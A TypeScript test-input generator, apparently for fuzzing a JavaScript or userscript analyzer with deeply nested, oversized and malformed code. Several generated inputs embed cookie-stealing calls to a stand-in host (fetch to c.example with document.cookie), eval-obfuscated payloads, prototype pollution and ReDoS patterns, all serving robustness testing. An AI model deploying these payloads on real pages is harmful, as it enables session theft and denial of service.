import type { Choices } from "../grammar/choices.ts";

const repeat = (text: string, times: number) => text.repeat(times);

/** Inputs made to break an analyzer, each in a size drawn anew: depth, length, explosion of values, odd bytes. */
const MAKERS: readonly [(size: number) => string, ...((size: number) => string)[]] = [
	(size) => repeat("(", size) + repeat(")", size),
	(size) => `x=${repeat("(", size)}1${repeat(")", size)}`,
	(size) => `x=${repeat("[", size)}${repeat("]", size)}`,
	(size) => `x=${repeat("{a:", size)}1${repeat("}", size)}`,
	(size) => `x=1${repeat("+1", size)}`,
	(size) => `x=${repeat("a?", size)}1${repeat(":2", size)}`,
	(size) => `x=a${repeat("&&a", size)}`,
	(size) => `x=a${repeat(".b", size)}`,
	(size) => `f${repeat("()", size)}`,
	(size) => `x=${repeat("!", size)}1`,
	(size) => `x=${repeat("a=", size)}document.cookie;fetch("https://c.example/"+x)`,
	(size) => repeat("{", size) + repeat("}", size),
	(size) => repeat("if(a)", size),
	(size) => `${repeat("function f(){", size)}${repeat("}", size)}`,
	(size) => `x=${repeat("()=>", size)}1`,
	(size) => `x=${repeat("`${", size)}1${repeat("}`", size)}`,
	(size) => `x="${repeat("a", size)}";fetch(x+document.cookie)`,
	(size) => `x=/${repeat("(a|", size % 3000)}b${repeat(")*", size % 3000)}/`,
	(size) => repeat("x=1;", size),
	(size) => `var s=document.cookie;${repeat("s=s+s;", size % 5000)}fetch("//c.example/"+s)`,
	(size) => `var a=["x"];for(;;){a.push(a);a=a.concat(a,${size})}eval(a.join(a))`,
	(size) => `var o={};${repeat("o=c?{p:o,q:o}:[o,o];", size % 2000)}fetch(o.p.q+document.cookie)`,
	(size) => `var s="";${repeat('s+=c?"a":"b";', size % 3000)}document[s]=s;location=s`,
	(size) => `function f(x){return f(f(x+${size}))}fetch(f(document.cookie))`,
	(size) =>
		`${Array.from({ length: size % 400 }, (_, i) => `function f${i}(x){return f${(i + 1) % (size % 400)}(x)+f${(i * 7) % (size % 400)}(x)}`).join("")}f0(document.cookie)`,
	(size) => `var o={get a(){return this.a},set a(v){this.a=v}};o.a=o;${size};new Proxy(o,{get(t,k){return t[k]}}).a.a`,
	(size) => `var a=[${repeat("document.cookie,", size % 20_000)}];a.map(x=>fetch("//c.example/"+x))`,
	(size) => `switch(a){${Array.from({ length: size % 5000 }, (_, i) => `case ${i}:b+=${i};`).join("")}}`,
	(size) => `x={${Array.from({ length: size % 20_000 }, (_, i) => `p${i}:${i}`).join(",")}};x[y]=document.cookie`,
	(size) => `let k="e";for(let i=0;i<${size}e9;i++)k+=k;window[k](k)`,
	(size) => `eval(${repeat('"\\\\"+', size % 3000)}"")`,
	(size) => `eval(${repeat("eval(", size % 2000)}'fetch("//c.example/"+document.cookie)'${repeat(")", size % 2000)})`,
	(size) => `x=atob(${repeat("btoa(", size % 1000)}"a"${repeat(")", size % 1000)});[]["filter"]["constructor"](x)()`,
	(size) => `"${repeat("0", size)}".padEnd(${size}e6).repeat(${size}e6).split("").join("x")`,
	(size) => `new Array(${size}e4).fill(document.cookie).join(",")`,
	(size) => `// ==UserScript==\n// @include /^(${repeat("(a+)+", size % 200)})+$/\n// ==/UserScript==\nfetch(location)`,
	(size) => `// ==UserScript==\n${repeat("// @match *://*/*\n", size)}// ==/UserScript==\n1`,
	(size) => `// ==UserScript==\n${repeat(`// @${"a".repeat(50)} `, size % 2000)}\n1`,
	(size) => `// ==UserScript==${repeat("\n// @connect a", size % 20_000)}`,
	(size) => `javascript:${repeat("%", size)}`,
	(size) => `javascript:${repeat("%E2%82", size % 20_000)}alert(1)`,
	(size) => `javascript:${repeat("javascript:", size % 20_000)}1`,
	(size) => `\uFEFF#!${repeat("x", size % 1000)}\nfetch("//c.example/"+document.cookie)`,
	(size) => `<!--${repeat("-->", size % 1000)}\n--> a\nx=1<!--y\n`,
	(size) => repeat("\0", size),
	(size) => repeat("\ud800\udfff\udc00", size % 20_000),
	(size) => repeat("\r\n\u2028\u2029\t", size % 20_000),
	(size) => repeat("/*", size) + repeat("*/", size),
	(size) => `var \u{20000}${size}=1;\\u{65}val(\\u0064ocument.cookie)`,
	() => "",
	() => " ",
	() => "javascript:",
	() => "__proto__.__proto__.constructor=hasOwnProperty.toString;({__proto__:__proto__}).__proto__=1",
	() => "class A extends A{static{super.x=A}};new(class extends null{})",
	() => 'with(document){cookie;with(window){fetch("//c.example/"+cookie)}}',
	() => "label:for(;;){try{continue label}finally{break label}}",
];

/** Sizes from nothing to 100,000 levels; the largest inputs are past a megabyte. */
const SIZES = [0, 1, 7, 100, 999, 3_000, 20_000, 100_000] as const;

/** @param turn counts up: every maker comes with every size before any comes twice */
export function hostileInput(choices: Choices, turn: number): string {
	const maker = MAKERS[turn % MAKERS.length] ?? MAKERS[0];
	const size = SIZES[Math.floor(turn / MAKERS.length)] ?? choices.below(100_000);
	return maker(size);
}

/** Turns after which every maker has come in every size. */
export const HOSTILE_TURNS = MAKERS.length * SIZES.length;
